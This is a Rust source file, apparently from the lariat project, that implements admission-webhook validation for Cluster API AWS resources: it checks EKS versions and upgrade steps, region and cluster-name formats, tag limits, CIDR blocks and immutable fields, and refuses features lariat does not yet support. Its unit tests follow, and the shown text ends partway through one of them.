//! Cluster API AWS's webhooks for the kinds lariat serves: the controller identity is a
//! singleton named `default`, and an EKS control plane keeps its region and name and is
//! upgraded one minor version at a time, never downgraded. Beyond them, what lariat does not
//! do yet is refused by name rather than silently dropped, and what lariat applies only
//! when it creates the EKS cluster cannot change afterwards.

use serde_json::Value;

use lariat_api::admission::{Cause, Strategies, Strategy, immutable};

/// Cluster API AWS's rules for the kinds lariat serves, for the API server's configuration.
pub fn strategies() -> Strategies {
    const INFRASTRUCTURE: &str = "infrastructure.cluster.x-k8s.io";
    Strategies::default()
        .with(
            "controlplane.cluster.x-k8s.io",
            &["awsmanagedcontrolplanes"],
            ManagedControlPlanes,
        )
        .with(
            INFRASTRUCTURE,
            &["awsmanagedmachinepools"],
            ManagedMachinePools,
        )
        .with(INFRASTRUCTURE, &["awsclusters"], Clusters)
        .with(
            INFRASTRUCTURE,
            &["awsmachines", "awsmachinetemplates"],
            Machines,
        )
        .with(
            INFRASTRUCTURE,
            &["awsclustercontrolleridentities"],
            ControllerIdentities,
        )
}

struct ControllerIdentities;

impl Strategy for ControllerIdentities {
    fn admit(&self, object: &mut Value, _: Option<&Value>) -> Vec<Cause> {
        let name = &object["metadata"]["name"];
        if name != lariat_api::aws::CONTROLLER_IDENTITY_NAME {
            return vec![Cause::invalid(
                "metadata.name",
                name,
                "AWSClusterControllerIdentity is a singleton: its name must be \"default\"",
            )];
        }
        vec![]
    }
}

/// An EKS version, `v1.31`, `v1.31.0` or either without the `v` (Cluster API AWS's pattern
/// makes it optional), as (major, minor).
fn eks_version(value: &Value) -> Option<(u64, u64)> {
    let text = value.as_str()?;
    let text = text.strip_prefix('v').unwrap_or(text);
    let parts: Vec<&str> = text.split('.').collect();
    if !(2..=3).contains(&parts.len()) {
        return None;
    }
    let numbers: Vec<u64> = parts
        .iter()
        .map(|p| p.parse().ok())
        .collect::<Option<_>>()?;
    Some((numbers[0], numbers[1]))
}

/// AWSMachines and AWSMachineTemplates (whose `spec.template.spec` is an AWSMachine's):
/// Cluster API AWS's rules for where the bootstrap data waits (`spec.cloudInit`): where its
/// entries are is each machine's own, never a template's, and only the characters AWS allows
/// in a secret's name pass.
struct Machines;

impl Strategy for Machines {
    fn admit(&self, object: &mut Value, _: Option<&Value>) -> Vec<Cause> {
        let (spec, path) = if object["kind"] == "AWSMachineTemplate" {
            (&object["spec"]["template"]["spec"], "spec.template.spec")
        } else {
            (&object["spec"], "spec")
        };
        let cloud_init = &spec["cloudInit"];
        let field = |name: &str| format!("{path}.cloudInit.{name}");
        let mut causes = vec![];
        let prefix = cloud_init["secretPrefix"].as_str().unwrap_or_default();
        let count = cloud_init["secretCount"].as_i64().unwrap_or_default();
        if cloud_init["insecureSkipSecretsManager"] == true {
            for name in ["secretPrefix", "secretCount", "secureSecretsBackend"] {
                if set(&cloud_init[name]) && cloud_init[name] != 0 {
                    causes.push(Cause::forbidden(
                        field(name),
                        "cannot be set if spec.cloudInit.insecureSkipSecretsManager is true: the bootstrap data goes into the user data",
                    ));
                }
            }
        }
        if path != "spec" {
            // Each machine's own, never shared by the machines of a template.
            for name in ["secretPrefix", "secretCount"] {
                if set(&cloud_init[name]) {
                    causes.push(Cause::forbidden(field(name), "cannot be set in templates"));
                }
            }
        } else if prefix.is_empty() != (count == 0) {
            let missing = if prefix.is_empty() {
                "secretPrefix"
            } else {
                "secretCount"
            };
            causes.push(Cause::required(field(missing)));
        }
        if prefix.len() > 400
            || !prefix
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"/_+=.@-".contains(&b))
        {
            causes.push(Cause::invalid(
                field("secretPrefix"),
                &cloud_init["secretPrefix"],
                "at most 400 of A-Z, a-z, 0-9 and /_+=.@- (what AWS allows in the name of a secret or parameter)",
            ));
        }
        if !(0..=400).contains(&count) {
            causes.push(Cause::invalid(
                field("secretCount"),
                &cloud_init["secretCount"],
                "must be between 1 and 400",
            ));
        }
        causes
    }
}

/// A node group's bounds, as EKS takes them: at least 0, at most at least 1, min ≤ max.
struct ManagedMachinePools;

impl Strategy for ManagedMachinePools {
    fn admit(&self, object: &mut Value, _: Option<&Value>) -> Vec<Cause> {
        let scaling = &object["spec"]["scaling"];
        let (min, max) = (&scaling["minSize"], &scaling["maxSize"]);
        let mut causes = additional_tags(&object["spec"]["additionalTags"]);
        if min.as_i64().is_some_and(|m| m < 0) {
            causes.push(Cause::invalid(
                "spec.scaling.minSize",
                min,
                "must be 0 or more",
            ));
        }
        if max.as_i64().is_some_and(|m| m < 1) {
            causes.push(Cause::invalid(
                "spec.scaling.maxSize",
                max,
                "must be 1 or more",
            ));
        }
        if let (Some(low), Some(high)) = (min.as_i64(), max.as_i64())
            && low > high
        {
            causes.push(Cause::invalid(
                "spec.scaling.minSize",
                min,
                format!("must not be more than spec.scaling.maxSize ({high})"),
            ));
        }
        causes
    }
}

struct ManagedControlPlanes;

/// AWS allows 50 tags a resource; lariat adds up to 5 of its own.
const MAX_ADDITIONAL_TAGS: usize = 45;

/// `spec.additionalTags` as AWS and ownership allow them.
fn additional_tags(tags: &Value) -> Vec<Cause> {
    let Some(tags) = tags.as_object() else {
        return vec![];
    };
    let mut causes = vec![];
    if tags.len() > MAX_ADDITIONAL_TAGS {
        causes.push(Cause::invalid(
            "spec.additionalTags",
            &Value::from(tags.len()),
            format!("at most {MAX_ADDITIONAL_TAGS} tags: AWS allows 50 a resource, and lariat adds its own"),
        ));
    }
    for (key, value) in tags {
        let field = format!("spec.additionalTags[{key}]");
        if let Some(prefix) = lariat_api::aws::reserved_tag_prefix(key) {
            causes.push(Cause::invalid(
                &field,
                &Value::from(key.as_str()),
                format!(
                    "keys under {prefix} say who owns a resource and are set by lariat or AWS only"
                ),
            ));
        } else if key.is_empty() || key.chars().count() > 128 {
            causes.push(Cause::invalid(
                &field,
                &Value::from(key.as_str()),
                "a tag key has 1 to 128 characters",
            ));
        } else if value.as_str().is_some_and(|v| v.chars().count() > 256) {
            causes.push(Cause::invalid(
                &field,
                value,
                "a tag value has at most 256 characters",
            ));
        }
    }
    causes
}

/// A VPC's CIDR block as lariat splits it: IPv4, a prefix of /16 to /28.
fn vpc_cidr(cidr: &Value) -> Option<Cause> {
    let text = cidr.as_str()?;
    let valid = text.split_once('/').is_some_and(|(address, prefix)| {
        address.parse::<std::net::Ipv4Addr>().is_ok()
            && prefix.parse::<u8>().is_ok_and(|p| (16..=28).contains(&p))
    });
    (!valid).then(|| {
        Cause::invalid(
            "spec.network.vpc.cidrBlock",
            cidr,
            "must be an IPv4 CIDR block from /16 to /28, such as 10.0.0.0/16",
        )
    })
}

/// What the network's VPC is, once set: another would leave the cluster's resources behind.
fn vpc_kept(object: &Value, old: Option<&Value>) -> Vec<Cause> {
    immutable(
        object,
        old,
        &["spec", "network", "vpc", "id"],
        "spec.network.vpc.id",
    )
}

/// Whether a field asks for something: set, and not empty or false.
fn set(value: &Value) -> bool {
    match value {
        Value::Null | Value::Bool(false) => false,
        Value::String(s) => !s.is_empty(),
        Value::Array(a) => !a.is_empty(),
        Value::Object(o) => !o.is_empty(),
        _ => true,
    }
}

/// Fields of AWSManagedControlPlane lariat does not act on yet, each with the value that
/// would ask for it: refused, so a spec never says what the cluster does not do.
fn not_done_yet(spec: &Value) -> Vec<Cause> {
    let checks: [(&str, &Value, &str); 8] = [
        (
            "spec.network.vpc.ipv6",
            &spec["network"]["vpc"]["ipv6"],
            "lariat does not make IPv6 VPCs yet: remove it",
        ),
        (
            "spec.bastion.enabled",
            &spec["bastion"]["enabled"],
            "lariat does not run a bastion host yet: remove it and reach nodes through SSM Session Manager",
        ),
        (
            "spec.secondaryCidrBlock",
            &spec["secondaryCidrBlock"],
            "lariat does not add a secondary VPC CIDR yet: remove it",
        ),
        (
            "spec.accessEntries",
            &spec["accessEntries"],
            "lariat does not manage EKS access entries yet: remove them and create them with the AWS CLI",
        ),
        (
            "spec.oidcIdentityProviderConfig",
            &spec["oidcIdentityProviderConfig"],
            "lariat does not associate OIDC identity providers for users yet: remove it",
        ),
        (
            "spec.vpcCni",
            &spec["vpcCni"],
            "lariat does not disable or configure the VPC CNI yet: remove it, or use the vpc-cni addon's configuration",
        ),
        (
            "spec.kubeProxy.disable",
            &spec["kubeProxy"]["disable"],
            "lariat does not remove kube-proxy yet: remove it",
        ),
        (
            "spec.partition",
            &spec["partition"],
            "lariat builds ARNs of the aws partition only yet: remove it",
        ),
    ];
    checks
        .into_iter()
        .filter(|(field, value, _)| match *field {
            // The schema's defaults ask for nothing.
            "spec.vpcCni" => set(&value["env"]) || value["disable"] == true,
            "spec.partition" => set(value) && *value != "aws",
            // `ipv6: {}` asks for an Amazon-provided IPv6 block.
            "spec.network.vpc.ipv6" => !value.is_null(),
            _ => set(value),
        })
        .map(|(field, value, why)| Cause::invalid(field, value, why))
        .collect()
}

/// Fields lariat gives EKS only when it creates the cluster (Cluster API AWS also changes
/// the first three on a running cluster; lariat does not yet).
const SET_AT_CREATION: [&[&str]; 4] = [
    &["encryptionConfig"],
    &["accessConfig", "authenticationMode"],
    &["upgradePolicy"],
    &["bootstrapSelfManagedAddons"],
];

/// EKS's cluster names: a letter or digit, then letters, digits, `-` and `_`, at most 100.
fn eks_name(name: &Value) -> Option<Cause> {
    let text = name.as_str()?;
    let valid = (1..=100).contains(&text.len())
        && text.starts_with(|c: char| c.is_ascii_alphanumeric())
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
    (!valid).then(|| {
        Cause::invalid(
            "spec.eksClusterName",
            name,
            "EKS cluster names start with a letter or digit, then letters, digits, '-' and '_', at most 100 characters",
        )
    })
}

/// AWS's region names (`us-east-1`, `eu-central-2`, `us-gov-west-1`, `ap-southeast-7`): a
/// typo would otherwise only show as an endpoint nobody answers at.
fn region(region: &Value) -> Option<Cause> {
    let text = region.as_str()?;
    // The aws partition's regions: an area, a direction, a number (`ap-southeast-7`).
    const AREAS: [&str; 9] = ["us", "eu", "ap", "sa", "ca", "me", "af", "il", "mx"];
    let parts: Vec<&str> = text.split('-').collect();
    let valid = parts.len() == 3
        && AREAS.contains(&parts[0])
        && !parts[1].is_empty()
        && parts[1].chars().all(|c| c.is_ascii_lowercase())
        && parts[2].parse::<u8>().is_ok()
        && !parts[2].starts_with('0');
    if valid {
        return None;
    }
    // Their ARNs are another partition's, which lariat does not build yet.
    let other_partition = ["cn-", "us-gov-", "us-iso", "eu-iso", "eusc-"]
        .iter()
        .any(|p| text.starts_with(p));
    Some(Cause::invalid(
        "spec.region",
        region,
        if other_partition {
            "lariat manages regions of the aws partition only yet (not China, GovCloud, ISO or the European Sovereign Cloud)"
        } else {
            "must be an AWS region such as us-east-1"
        },
    ))
}

/// `iamAuthenticatorConfig`'s entries as aws-auth takes them: each an ARN, a username and
/// groups (null entries, which the schema lets through, would stop the control plane).
fn authenticator_mappings(config: &Value) -> Vec<Cause> {
    let mut causes = vec![];
    for (list, arn) in [("mapRoles", "rolearn"), ("mapUsers", "userarn")] {
        for (index, entry) in config[list].as_array().into_iter().flatten().enumerate() {
            let field = format!("spec.iamAuthenticatorConfig.{list}[{index}]");
            let well_formed = entry[arn].as_str().is_some()
                && entry["username"].as_str().is_some()
                && entry["groups"]
                    .as_array()
                    .is_some_and(|g| g.iter().all(Value::is_string));
            if !well_formed {
                causes.push(Cause::invalid(
                    field,
                    entry,
                    format!("each entry has {arn}, username and groups (a list of names)"),
                ));
            }
        }
    }
    causes
}

/// An addon named twice: which of its versions is meant?
fn duplicate_addons(addons: &Value) -> Vec<Cause> {
    let mut seen = std::collections::BTreeSet::new();
    addons
        .as_array()
        .into_iter()
        .flatten()
        .enumerate()
        .filter(|(_, addon)| {
            addon["name"]
                .as_str()
                .is_some_and(|name| !seen.insert(name.to_owned()))
        })
        .map(|(index, addon)| {
            Cause::invalid(
                format!("spec.addons[{index}].name"),
                &addon["name"],
                "is named twice: give each addon once",
            )
        })
        .collect()
}

/// AWSClusters: a region of the aws partition that never changes, and what lariat does not
/// build yet refused by field, as for EKS control planes.
struct Clusters;

impl Strategy for Clusters {
    fn admit(&self, object: &mut Value, old: Option<&Value>) -> Vec<Cause> {
        let spec = &object["spec"];
        let balancer = &spec["controlPlaneLoadBalancer"];
        let network = &spec["network"];
        let checks: [(&str, &Value, &str); 12] = [
            (
                "spec.network.vpc.ipv6",
                &network["vpc"]["ipv6"],
                "lariat does not make IPv6 VPCs yet: remove it",
            ),
            (
                "spec.network.securityGroupOverrides",
                &network["securityGroupOverrides"],
                "lariat makes the cluster's security groups itself yet: remove it",
            ),
            (
                "spec.controlPlaneLoadBalancer.healthCheck",
                &balancer["healthCheck"],
                "lariat gives the load balancer Cluster API AWS's default health check yet: remove it",
            ),
            (
                "spec.controlPlaneLoadBalancer.healthCheckProtocol",
                &balancer["healthCheckProtocol"],
                "a classic load balancer checks over TCP, SSL, HTTP or HTTPS",
            ),
            (
                "spec.bastion.enabled",
                &spec["bastion"]["enabled"],
                "lariat does not run a bastion host yet: remove it and reach nodes through SSM Session Manager",
            ),
            (
                "spec.controlPlaneLoadBalancer.loadBalancerType",
                &balancer["loadBalancerType"],
                "lariat makes classic load balancers only yet: remove it or set classic",
            ),
            (
                "spec.controlPlaneLoadBalancer.additionalListeners",
                &balancer["additionalListeners"],
                "lariat's load balancer listens on the API server's port only yet: remove them",
            ),
            (
                "spec.controlPlaneLoadBalancer.ingressRules",
                &balancer["ingressRules"],
                "lariat lets the API server's port be reached from anywhere (Cluster API AWS's default) and takes no other rules yet: remove them",
            ),
            (
                "spec.secondaryControlPlaneLoadBalancer",
                &spec["secondaryControlPlaneLoadBalancer"],
                "lariat makes one load balancer yet: remove it",
            ),
            (
                "spec.network.additionalControlPlaneIngressRules",
                &network["additionalControlPlaneIngressRules"],
                "lariat gives the security groups Cluster API AWS's default rules only yet: remove them",
            ),
            (
                "spec.network.additionalNodeIngressRules",
                &network["additionalNodeIngressRules"],
                "lariat gives the security groups Cluster API AWS's default rules only yet: remove them",
            ),
            (
                "spec.s3Bucket",
                &spec["s3Bucket"],
                "lariat does not keep bootstrap data in S3 (it is for Ignition): remove it",
            ),
        ];
        let mut causes: Vec<Cause> = checks
            .into_iter()
            .filter(|(field, value, _)| match *field {
                "spec.controlPlaneLoadBalancer.loadBalancerType" => {
                    set(value) && *value != "classic" && *value != "elb"
                }
                "spec.controlPlaneLoadBalancer.healthCheckProtocol" => {
                    set(value)
                        && !["TCP", "SSL", "HTTP", "HTTPS"]
                            .contains(&value.as_str().unwrap_or_default())
                }
                "spec.network.vpc.ipv6" => !value.is_null(),
                _ => set(value),
            })
            .map(|(field, value, why)| Cause::invalid(field, value, why))
            .collect();
        causes.extend(region(&spec["region"]));
        causes.extend(additional_tags(&spec["additionalTags"]));
        causes.extend(vpc_cidr(&network["vpc"]["cidrBlock"]));
        if set(&spec["partition"]) && spec["partition"] != "aws" {
            causes.push(Cause::invalid(
                "spec.partition",
                &spec["partition"],
                "lariat builds ARNs of the aws partition only yet: remove it",
            ));
        }
        if let Some(old) = old {
            let at = |o: &Value, field: &str| {
                o.pointer(&format!("/{}", field.replace('.', "/"))).cloned()
            };
            causes.retain(|c| at(object, &c.field) != at(old, &c.field));
            // The endpoint is in the control plane's certificates once it is set.
            if set(&old["spec"]["controlPlaneEndpoint"]["host"]) {
                causes.extend(immutable(
                    object,
                    Some(old),
                    &["spec", "controlPlaneEndpoint"],
                    "spec.controlPlaneEndpoint",
                ));
            }
        }
        causes.extend(immutable(object, old, &["spec", "region"], "spec.region"));
        causes.extend(vpc_kept(object, old));
        // Once the load balancer exists, another name or scheme would be another load
        // balancer, the endpoint still naming the first: refused, set or not before.
        if let Some(old) =
            old.filter(|o| set(&o["status"]["networkStatus"]["apiServerElb"]["name"]))
        {
            let scheme = |o: &Value| {
                o["spec"]["controlPlaneLoadBalancer"]["scheme"]
                    .as_str()
                    .unwrap_or("internet-facing")
                    .to_owned()
            };
            let name = |o: &Value| o["spec"]["controlPlaneLoadBalancer"]["name"].clone();
            if name(object) != name(old) {
                causes.push(Cause::invalid(
                    "spec.controlPlaneLoadBalancer.name",
                    &name(object),
                    "cannot change once the load balancer exists: the endpoint names it",
                ));
            }
            if scheme(object) != scheme(old) {
                causes.push(Cause::invalid(
                    "spec.controlPlaneLoadBalancer.scheme",
                    &object["spec"]["controlPlaneLoadBalancer"]["scheme"],
                    "cannot change once the load balancer exists: the endpoint names it",
                ));
            }
        }
        causes
    }
}

impl Strategy for ManagedControlPlanes {
    fn admit(&self, object: &mut Value, old: Option<&Value>) -> Vec<Cause> {
        let mut causes = not_done_yet(&object["spec"]);
        causes.extend(eks_name(&object["spec"]["eksClusterName"]));
        causes.extend(region(&object["spec"]["region"]));
        causes.extend(duplicate_addons(&object["spec"]["addons"]));
        causes.extend(additional_tags(&object["spec"]["additionalTags"]));
        causes.extend(vpc_cidr(&object["spec"]["network"]["vpc"]["cidrBlock"]));
        causes.extend(authenticator_mappings(
            &object["spec"]["iamAuthenticatorConfig"],
        ));
        // An object stored before a check existed keeps what it has: its status, finalizers
        // and other fields can still be written (and it deleted); only a change is checked.
        if let Some(old) = old {
            let at = |o: &Value, field: &str| {
                o.pointer(&format!("/{}", field.replace('.', "/"))).cloned()
            };
            causes.retain(|c| at(object, &c.field) != at(old, &c.field));
            for path in SET_AT_CREATION {
                let pick = |o: &Value| path.iter().fold(o["spec"].clone(), |v, k| v[*k].clone());
                let now = pick(object);
                if pick(old) != now {
                    causes.push(Cause::invalid(
                        format!("spec.{}", path.join(".")),
                        &now,
                        "lariat gives this to EKS only when it creates the cluster, and does not change it on a running cluster yet",
                    ));
                }
            }
        }
        causes.extend(immutable(object, old, &["spec", "region"], "spec.region"));
        causes.extend(immutable(
            object,
            old,
            &["spec", "eksClusterName"],
            "spec.eksClusterName",
        ));
        causes.extend(vpc_kept(object, old));
        // The role is found by this name on deletion.
        causes.extend(immutable(
            object,
            old,
            &["spec", "roleName"],
            "spec.roleName",
        ));
        let version = &object["spec"]["version"];
        if version.is_null() {
            return causes;
        }
        let Some(to) = eks_version(version) else {
            causes.push(Cause::invalid(
                "spec.version",
                version,
                "must be an EKS version such as v1.31 or v1.31.0",
            ));
            return causes;
        };
        let changed = old.is_none_or(|o| eks_version(&o["spec"]["version"]) != Some(to));
        if changed && !lariat_api::support::kubernetes_supported(to.0, to.1) {
            causes.push(Cause::invalid(
                "spec.version",
                version,
                format!(
                    "EKS v{}.{} is outside what this lariat provisions and manages: {} (see `lariat version --matrix`)",
                    to.0,
                    to.1,
                    lariat_api::support::kubernetes_range()
                ),
            ));
            return causes;
        }
        // From the version the spec had or, when it had none (cleared to get round this
        // check), the one EKS runs.
        let running = old.and_then(|o| eks_version(&o["status"]["version"]));
        let from = old
            .and_then(|o| eks_version(&o["spec"]["version"]))
            .or(running);
        if let Some(from) = from {
            let (from_text, to_text) = (
                format!("v{}.{}", from.0, from.1),
                format!("v{}.{}", to.0, to.1),
            );
            if to < from || running.is_some_and(|running| to < running) {
                let floor = running.map_or(from, |running| running.max(from));
                causes.push(Cause::invalid(
                    "spec.version",
                    version,
                    format!(
                        "cannot downgrade the EKS control plane from {from_text} to {to_text}: EKS cannot go back, so set v{}.{} or later",
                        floor.0, floor.1
                    ),
                ));
            } else if to.0 != from.0 || to.1 > from.1 + 1 {
                causes.push(Cause::invalid(
                    "spec.version",
                    version,
                    format!(
                        "cannot upgrade the EKS control plane from {from_text} to {to_text}: EKS upgrades one minor version at a time, so set v{}.{} first",
                        from.0,
                        from.1 + 1
                    ),
                ));
            }
        }
        causes
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn admit(strategy: &dyn Strategy, object: Value, old: Option<Value>) -> Vec<String> {
        let mut object = object;
        strategy
            .admit(&mut object, old.as_ref())
            .into_iter()
            .map(|c| format!("{}: {}", c.field, c.message))
            .collect()
    }

    #[test]
    fn ownership_tags_bad_mappings_and_a_moved_vpc_are_refused() {
        let owned_elsewhere = json!({"spec": {"region": "us-east-1", "additionalTags": {
            "sigs.k8s.io/cluster-api-provider-aws/cluster/alpha": "owned",
            "team": "a",
        }}});
        let refused = admit(&Clusters, owned_elsewhere.clone(), None);
        assert_eq!(refused.len(), 1, "{refused:?}");
        assert!(
            refused[0].contains("say who owns a resource"),
            "{refused:?}"
        );
        assert_eq!(admit(&ManagedControlPlanes, owned_elsewhere, None).len(), 1);
        let many: serde_json::Map<String, Value> =
            (0..60).map(|i| (format!("k{i}"), json!("v"))).collect();
        assert_eq!(
            admit(
                &ManagedMachinePools,
                json!({"spec": {"additionalTags": many}}),
                None
            )
            .len(),
            1
        );
        let nulls = json!({"spec": {"region": "us-east-1", "iamAuthenticatorConfig": {
            "mapUsers": [null, {"userarn": "arn:aws:iam::123456789012:user/a", "username": "a", "groups": [null]}],
            "mapRoles": [{"rolearn": "arn:aws:iam::123456789012:role/a", "username": "a", "groups": ["g"]}],
        }}});
        let refused = admit(&ManagedControlPlanes, nulls, None);
        assert_eq!(refused.len(), 2, "{refused:?}");
        assert!(refused[0].starts_with("spec.iamAuthenticatorConfig.mapUsers[0]"));
        let cidr = json!({"spec": {"region": "us-east-1", "network": {"vpc": {"cidrBlock": "10.0.0.0/33"}}}});
        assert_eq!(admit(&Clusters, cidr, None).len(), 1);
        let placed = json!({"spec": {"region": "us-east-1", "network": {"vpc": {"id": "vpc-1"}}}});
        let mut moved = placed.clone();
        moved["spec"]["network"]["vpc"]["id"] = json!("vpc-2");
        assert_eq!(
            admit(&Clusters, moved.clone(), Some(placed.clone())).len(),
            1
        );
        assert_eq!(admit(&ManagedControlPlanes, moved, Some(placed)).len(), 1);
    }

    #[test]
    fn aws_clusters_refuse_what_lariat_does_not_build_and_keep_their_endpoint() {
        let cluster = json!({"spec": {"region": "eu-west-1"}});
        assert!(admit(&Clusters, cluster.clone(), None).is_empty());
        let classic = json!({"spec": {"region": "eu-west-1",
            "controlPlaneLoadBalancer": {"loadBalancerType": "classic", "scheme": "internal"}}});
        assert!(admit(&Clusters, classic.clone(), None).is_empty());
        let asked = json!({"spec": {"region": "eu-west-1",
            "bastion": {"enabled": true},
            "controlPlaneLoadBalancer": {"loadBalancerType": "nlb"},
            "network": {"additionalNodeIngressRules": [{"description": "x", "protocol": "tcp", "fromPort": 1, "toPort": 1}]}}});
        let refused = admit(&Clusters, asked, None);
        assert_eq!(refused.len(), 3, "{refused:?}");
        assert!(
            refused[1].starts_with("spec.controlPlaneLoadBalancer.loadBalancerType:")
                && refused[1].contains("lariat makes classic load balancers only"),
            "{refused:?}"
        );
        // Before the load balancer exists, anything goes; after, neither name nor scheme
        // changes, even from unset.
        let mut scheme_changed = classic.clone();
        scheme_changed["spec"]["controlPlaneLoadBalancer"]["scheme"] = json!("internet-facing");
        assert!(admit(&Clusters, scheme_changed.clone(), Some(classic.clone())).is_empty());
        let mut made = classic.clone();
        made["status"] = json!({"networkStatus": {"apiServerElb": {"name": "prod-apiserver"}}});
        assert_eq!(
            admit(&Clusters, scheme_changed, Some(made.clone())).len(),
            1
        );
        let mut named = made.clone();
        named["spec"]["controlPlaneLoadBalancer"]["name"] = json!("other");
        assert_eq!(admit(&Clusters, named, Some(made.clone())).len(), 1);
        let mut internal_from_unset = cluster.clone();
        internal_from_unset["spec"]["controlPlaneLoadBalancer"] = json!({"scheme": "internal"});
        let mut made_default = cluster.clone();
        made_default["status"] = made["status"].clone();
        assert_eq!(
            admit(&Clusters, internal_from_unset, Some(made_default.clone())).len(),
            1
        );
        let mut explicit_default = cluster.clone();
        explicit_default["spec"]["controlPlaneLoadBalancer"] = json!({"scheme": "internet-facing"});
        assert!(admit(&Clusters, explicit_default, Some(made_default)).is_empty());
        let udp = json!({"spec": {"region": "eu-west-1",
            "controlPlaneLoadBalancer": {"healthCheckProtocol": "UDP"}}});
        assert_eq!(admit(&Clusters, udp, None).len(), 1);
        let mut placed = cluster.clone();
        placed["spec"]["controlPlaneEndpoint"] =
            json!({"host": "a.elb.amazonaws.com", "port": 6443});
        // Set once (by lariat), then kept.
        assert!(admit(&Clusters, placed.clone(), Some(cluster)).is_empty());
        let mut moved = placed.clone();
        moved["spec"]["controlPlaneEndpoint"]["host"] = json!("b.elb.amazonaws.com");
        assert_eq!(admit(&Clusters, moved, Some(placed)).len(), 1);
        assert_eq!(
            admit(&Clusters, json!({"spec": {"region": "cn-north-1"}}), None).len(),
            1
        );
    }

    #[test]
    fn eks_upgrades_go_one_minor_version_at_a_time() {
        let plane = |version: &str| json!({"spec": {"region": "us-east-1", "version": version}});
        assert!(
            admit(
                &ManagedControlPlanes,
                plane("v1.30.0"),
                Some(plane("v1.30"))
            )
            .is_empty()
        );
        assert!(
            admit(
                &ManagedControlPlanes,
                plane("v1.31"),
                Some(plane("v1.30.2"))
            )
            .is_empty()
        );
        // Cluster API AWS's pattern makes the `v` optional.
        assert!(admit(&ManagedControlPlanes, plane("1.31.0"), Some(plane("v1.30"))).is_empty());
        assert_eq!(
            admit(&ManagedControlPlanes, plane("1.32"), Some(plane("1.30"))).len(),
            1
        );
        assert_eq!(admit(&ManagedControlPlanes, plane("one.31"), None).len(), 1);
        let skip = admit(
            &ManagedControlPlanes,
            plane("v1.32.0"),
            Some(plane("v1.30.0")),
        );
        assert_eq!(skip.len(), 1);
        assert!(
            skip[0].contains(
                "from v1.30 to v1.32: EKS upgrades one minor version at a time, so set v1.31 first"
            ),
            "{skip:?}"
        );
        let down = admit(&ManagedControlPlanes, plane("v1.29"), Some(plane("v1.30")));
        assert!(
            down[0].contains("cannot downgrade") && down[0].ends_with("set v1.30 or later"),
            "{down:?}"
        );
        // A version cleared, then set, is checked against the one EKS runs.
        let mut running = json!({"spec": {"region": "us-east-1"}, "status": {"version": "v1.30"}});
        let skip = admit(&ManagedControlPlanes, plane("v1.32"), Some(running.clone()));
        assert!(skip[0].contains("so set v1.31 first"), "{skip:?}");
        let down = admit(&ManagedControlPlanes, plane("v1.28"), Some(running.clone()));
        assert!(down[0].contains("cannot downgrade"), "{down:?}");
        // Outside the support matrix: refused for that first.
        let old = admit(&ManagedControlPlanes, plane("v1.20"), Some(running.clone()));
        assert!(old[0].contains("v1.28 to v1.33"), "{old:?}");
        running["spec"]["version"] = json!("v1.31");
        let below_running = admit(&ManagedControlPlanes, plane("v1.29"), Some(running));
        assert!(
            below_running[0].ends_with("set v1.31 or later"),
            "{below_running:?}"
        );
        let twice = admit(
            &ManagedControlPlanes,
            json!({"spec": {"region": "us-east-1", "addons": [
                {"name": "vpc-cni", "version": "v1.19.0-eksbuild.1"},
                {"name": "vpc-cni", "version": "v1.19.2-eksbuild.1"},
            ]}}),
            None,
        );
        assert!(twice[0].starts_with("spec.addons[1].name:"), "{twice:?}");
        let bad = admit(&ManagedControlPlanes, plane("v1.x"), None);
        assert!(bad[0].starts_with("spec.version:"), "{bad:?}");
        let moved = admit(
            &ManagedControlPlanes,
            json!({"spec": {"region": "eu-west-1"}}),
            Some(json!({"spec": {"region": "us-east-1"}})),
        );
        assert!(moved[0].starts_with("spec.region:"), "{moved:?}");
    }

    #[test]
    fn what_lariat_does_not_do_is_refused_by_name() {
        let plane = |extra: Value| {
            let mut plane = json!({"spec": {"region": "us-east-1"}});
            for (k, v) in extra.as_object().unwrap() {
                plane["spec"][k] = v.clone();
            }
            plane
        };
        // Cluster API AWS's defaults and explicit "off" values ask for nothing.
        let quiet = plane(json!({
            "bastion": {"enabled": false},
            "vpcCni": {"disable": false},
            "kubeProxy": {"disable": false},
            "iamAuthenticatorConfig": {},
            "partition": "aws",
            "accessEntries": [],
        }));
        assert_eq!(
            admit(&ManagedControlPlanes, quiet, None),
            Vec::<String>::new()
        );
        let asked = plane(json!({
            "bastion": {"enabled": true},
            "secondaryCidrBlock": "100.64.0.0/16",
            "accessEntries": [{"principalARN": "arn:aws:iam::1:role/admin"}],
            "vpcCni": {"env": [{"name": "ENABLE_PREFIX_DELEGATION", "value": "true"}]},
            "kubeProxy": {"disable": true},
            "partition": "aws-cn",
            "oidcIdentityProviderConfig": {"issuerUrl": "https://id.example.com"},
            "network": {"vpc": {"ipv6": {}}},
        }));
        let refused = admit(&ManagedControlPlanes, asked, None);
        let fields: Vec<&str> = refused
            .iter()
            .map(|c| c.split(':').next().unwrap())
            .collect();
        assert_eq!(
            fields,
            [
                "spec.network.vpc.ipv6",
                "spec.bastion.enabled",
                "spec.secondaryCidrBlock",
                "spec.accessEntries",
                "spec.oidcIdentityProviderConfig",
                "spec.vpcCni",
                "spec.kubeProxy.disable",
                "spec.partition",
            ],
            "{refused:?}"
        );
        assert!(refused[1].contains("lariat does not run a bastion host yet"));

        // An object stored before these checks existed can still have its status, metadata
        // and other fields written; changing a refused field is still refused.
        let stored = plane(json!({"bastion": {"enabled": true}, "region": "us-gov-west-1"}));
        let mut touched = stored.clone();
        touched["metadata"] = json!({"finalizers": []});
        touched["spec"]["version"] = json!("v1.31");
        assert_eq!(
            admit(&ManagedControlPlanes, touched, Some(stored.clone())),
            Vec::<String>::new()
        );
        let mut changed = stored.clone();
        changed["spec"]["bastion"]["enabled"] = json!(true);
        changed["spec"]["secondaryCidrBlock"] = json!("100.64.0.0/16");
        let said = admit(&ManagedControlPlanes, changed, Some(stored));
        assert!(
            said.len() == 1 && said[0].starts_with("spec.secondaryCidrBlock:"),
            "{said:?}"
        );
    }

    #[test]
    fn what_eks_takes_only_at_creation_does_not_change_and_names_are_eks_s() {
        let plane = |extra: Value| {
            let mut plane = json!({"spec": {"region": "us-east-1"}});
            for (k, v) in extra.as_object().unwrap() {
                plane["spec"][k] = v.clone();
            }
            plane
        };
        let key = json!({"encryptionConfig": {"provider": "arn:aws:kms:us-east-1:1:key/a"}});
        assert!(
            admit(
                &ManagedControlPlanes,
                plane(key.clone()),
